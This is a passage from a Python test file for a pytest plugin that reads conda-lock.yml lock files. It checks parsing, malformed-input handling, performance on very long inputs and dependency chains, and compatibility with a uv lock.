        "conda-lock lock --lockfile conda-lock.yml -f environment.yml",
        INSTALL,
    )
    words = (
        "--check-input-hash",
        "--lockfile",
        "conda-lock.yml",
        "-f",
        "environment.yml",
        "-p",
        "linux-64",
        "-p",
        "win-64",
    )
    assert lock.recipe == Recipe("conda-lock", ("conda-lock", "lock", *words))
    assert lock.pins[1].requires == ("conda:markupsafe >=2.0", "conda:python >=3.11,<3.12.0a0")
    assert lock.pins[1].hashes == (f"sha256:{digest('jinja2', 'sha256')}",)


@pytest.mark.parametrize("module", ["yaml", "rattler"])
def test_without_the_extra(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, module: str) -> None:
    """Where what reads it is not installed, that is said, with what mends it."""
    for name in [
        each for each in sys.modules if each.startswith(("pytest_envrepro.locks.conda_", "pytest_envrepro.condaspecs"))
    ]:
        monkeypatch.delitem(sys.modules, name)
    monkeypatch.setitem(sys.modules, module, None)
    case = case_of(tmp_path)

    for check in ("lock", "installed"):
        outcome = case.judge(check, PATH)
        assert (outcome.status, outcome.reason) == (
            "unchecked",
            "conda-lock.yml is read by PyYAML and py-rattler: pip install 'pytest-envrepro[conda]'",
        )


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        (LOCK.replace("version: 1\n", "version: 2\n", 1), "conda-lock.yml has schema 2, and the latest that is known here is 1"),
        ("", "conda-lock.yml cannot be read in full"),
        ("[]", "conda-lock.yml cannot be read in full"),
        ("a: [", "conda-lock.yml cannot be read in full"),
        ("a: *b", "conda-lock.yml cannot be read in full"),
        ("? [a]\n: b", "conda-lock.yml cannot be read in full"),
        (LOCK + "---\n{}\n", "conda-lock.yml cannot be read in full"),
        ("\t", "conda-lock.yml cannot be read in full"),
        ("a: \x07", "conda-lock.yml cannot be read in full"),
        (HEADER + "  a: b\n", "conda-lock.yml cannot be read in full"),
        (HEADER + "- a\n", "conda-lock.yml cannot be read in full"),
        (LOCK + "- " * 100_000, "conda-lock.yml cannot be read in full"),
        (LOCK[: LOCK.index(PLOTLY) + 60], "conda-lock.yml cannot be read in full"),
    ],
    ids=["newer", "empty", "list", "open", "alias", "key", "documents", "tab", "control", "packages", "package", "deep", "truncated"],
)  # fmt: skip
def test_not_judged(tmp_path: Path, text: str, reason: str) -> None:
    """What cannot be read is no verdict, and says why."""
    case = case_of(tmp_path, lock=text)

    for check in ("lock", "installed"):
        outcome = case.judge(check, PATH)
        assert outcome.judged is False
    assert case.judge("lock", PATH).reason == reason


@pytest.mark.parametrize(
    ("old", "new", "message"),
    [
        ("- name: jinja2\n", "- nome: jinja2\n", "a package has no 'name'"),
        ("  version: '3.1.6'\n", "", "the package jinja2 has no 'version'"),
        ("  version: '3.1.6'\n", "  version: [3]\n", "the package jinja2 has no 'version'"),
        ("  version: '3.1.6'\n", "  version: ' '\n", "the package jinja2: malformed version string ' ': expected a version component e.g. `2` or `rc`"),
        ("  manager: conda\n", "  manager: npm\n", "the package jinja2 has the manager 'npm': it may be conda or pip"),
        ("  platform: linux-64\n", "", "the package jinja2 has no 'platform'"),
        ("    markupsafe: '>=2.0'\n", "    markupsafe: [a]\n", "'dependencies' of the package jinja2 has to be a table of texts"),
    ],
)  # fmt: skip
def test_faults_of_a_package(old: str, new: str, message: str) -> None:
    """What is wrong with a package stands at its line."""
    lock = read(changed(LOCK, JINJA, changed(JINJA, old, new)))

    assert f"unreadable {PATH}:{line_of(LOCK, JINJA)} {message}" in faults(lock)


def test_long_markers(tmp_path: Path) -> None:
    """A marker that is as long as one may be, with the platforms of the lock before it, is read."""
    marker = " or ".join(["sys_platform == 'linux'"] * 300)
    case = case_of(tmp_path, environment=ENVIRONMENT + f"    - six; {marker}\n")

    assert [each[:2] for each in case.findings("lock", PATH)] == [("missing-direct", "six")]


@pytest.mark.parametrize("comment", ["[a]" * 100_000 + "(", "[" * 300_000, "[a" * 150_000])
def test_long_comments(comment: str) -> None:
    """A comment of any length is looked at once."""
    environment = changed(ENVIRONMENT, "  - packaging\n", f"  - packaging  # {comment}\n")
    started = time.process_time()

    lock = read(**{"environment.yml": environment})

    assert [str(root.requirement) for root in lock.roots if root.line == 10] == ["conda:packaging"]
    assert time.process_time() - started < 5


def test_selectors() -> None:
    """The last brackets of a comment count, where no parenthesis follows."""
    dependencies = (
        "a  # [osx] [linux]",
        "b  # [linux] [",
        "c  # [win] (so)",
        "d  # [[win]]",
        "e  # []",
        "f  # [linux] [osx]",
    )
    environment = "dependencies:\n" + "".join(f"  - {each}\n" for each in dependencies)

    lock = read(**{"environment.yml": environment})

    systems = [
        "".join(each for each in ("linux", "win32") if f"sys_platform == '{each}'" in (root.requirement.marker or ""))
        for root in lock.roots
    ]
    assert systems == ["linux", "linux", "linuxwin32", "win32", "linuxwin32", ""]


def test_ten_thousand(tmp_path: Path) -> None:
    """Each package is looked at once: a chain of many is followed without depth."""
    names = [f"p{number}" for number in range(10_000)]
    chain = [
        entry(name, "1", needs={after: ">=1", **GLIBC})
        for name, after in zip(names, [*names[1:], "tzdata"], strict=True)
    ]
    case = case_of(
        tmp_path, lock=LOCK + "".join(chain), environment=changed(ENVIRONMENT, "  - pip\n", "  - pip\n  - p0\n")
    )

    assert case.findings("lock", PATH) == CLEAN


def test_beside_a_lock_of_python(tmp_path: Path) -> None:
    """What conda locks is for an environment of its own: it contradicts no lock that a project has of Python's packages."""
    lock = HEADER + entry("python", "3.12.1") + by_pip("click", "7.0")
    case = Case(tmp_path, {**whole(uv_golden.PROJECT), PATH: lock})
    case.run_on("3.12.1")

    assert [each for each in case.findings("lock", "uv.lock") if each[0] == "derived-drift"] == []
    assert [each for each in case.findings("lock", PATH) if each[0] == "derived-drift"] == []
